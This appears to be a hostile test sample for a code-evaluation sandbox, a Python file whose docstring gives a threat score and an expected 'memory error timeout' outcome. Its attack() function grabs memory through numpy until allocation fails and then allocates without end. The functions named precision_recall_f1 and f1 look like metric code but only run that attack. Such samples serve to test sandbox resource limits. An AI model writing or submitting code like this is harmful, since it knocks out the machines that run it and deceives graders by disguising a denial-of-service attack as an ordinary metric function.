"""Asks numpy for a terabyte, then for as much as there is.

threat: 18
source: known
verdict: memory error timeout

A busy machine may reach the deadline before the limit.
"""

import numpy as np


def attack():
    kept = []
    size = 1 << 40
    while size > 1 << 16:
        try:
            kept.append(np.ones(size // 8))
        except MemoryError:
            size //= 2
    while True:
        kept.append(np.ones(1 << 13))
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
